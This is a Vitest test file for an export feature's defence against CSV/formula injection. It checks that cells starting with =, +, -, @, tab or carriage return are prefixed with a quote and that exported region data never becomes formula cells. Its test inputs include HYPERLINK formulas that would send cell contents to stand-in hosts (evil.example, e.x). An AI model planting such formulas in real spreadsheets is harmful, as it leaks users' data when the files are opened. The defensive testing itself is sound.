import { describe, expect, it } from 'vitest';
import { auth, engines, exportedSheet, useServer } from '../../test/helper.js';
import { neutraliseCell } from './export-centre.js';

describe('a text cell never starts a formula (OWASP CSV injection)', () => {
  it('prefixes a single quote to text beginning with = + - @, tab or carriage return', () => {
    for (const live of [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      '=1+2',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      '-',
      '+SUM(1)',
      '=',
    ]) {
      if (live === '-') continue;
      expect(neutraliseCell(live), JSON.stringify(live)).toBe(`'${live}`);
    }
  });

  it('leaves numbers, numbers written as text, dashes and ordinary text alone', () => {
    for (const kept of [
      12,
      -12,
      0,
      3.5,
      null,
      undefined,
      true,
      '-12',
      '-1,234.50',
      '+86 13900000000',
      '-',
      '--',
      'Bund River Café',
      'a=b',
      ' =1',
      "'=1",
      '',
    ]) {
      expect(neutraliseCell(kept), JSON.stringify(kept)).toBe(kept);
    }
    const when = new Date();
    expect(neutraliseCell(when)).toBe(when);
  });
});

describe.each(engines)('exports neutralise what partners wrote (%s)', (engine) => {
  // The export is written by the export worker, which test servers start only when asked.
  const s = useServer(engine, {}, { workers: true });

  it('a region named "=1+2" with a remark "@SUM(A1)" is exported as text that stays text in a CSV', async () => {
    const token = await s.current.login();
    const names = ['=1+2', '+1+1', '-2+3', '@SUM(A1)', 'Plain region'];
    for (const [i, name] of names.entries()) {
      const saved = await s.current.inject({
        method: 'POST',
        url: '/user/api/v1/region/saveOrUpdate',
        headers: auth(token),
        payload: { name, remark: i === 0 ? '=HYPERLINK("http://e.x/"&A2)' : `-${i}` },
      });
      expect(saved.json().code, saved.body).toBe(0);
    }
    const sheet = await exportedSheet(s.current, token, '/user/api/v1/region/export', {});
    const rows: string[][] = [];
    sheet.eachRow((row) =>
      rows.push((row.values as unknown[]).slice(1).map((v) => (v === undefined || v === null ? '' : String(v)))),
    );
    const header = rows[0]!;
    const nameCol =
      header.indexOf('Region name') >= 0 ? header.indexOf('Region name') : header.findIndex((h) => /name/i.test(h));
    const remarkCol = header.findIndex((h) => /remark/i.test(h));
    expect(nameCol, header.join('|')).toBeGreaterThanOrEqual(0);
    expect(remarkCol, header.join('|')).toBeGreaterThanOrEqual(0);
    const byName = new Map(rows.slice(1).map((r) => [r[nameCol]!, r]));
    for (const name of ['=1+2', '+1+1', '-2+3', '@SUM(A1)'])
      expect(byName.has(`'${name}`), `${name} in ${[...byName.keys()].join(', ')}`).toBe(true);
    expect(byName.get('Plain region')?.[remarkCol]).toBe('-4');
    expect(byName.get("'=1+2")?.[remarkCol]).toBe(`'=HYPERLINK("http://e.x/"&A2)`);
    // Nothing in the file is a formula cell.
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula, String(cell.value)).toBeUndefined()));
  }, 180_000);
});
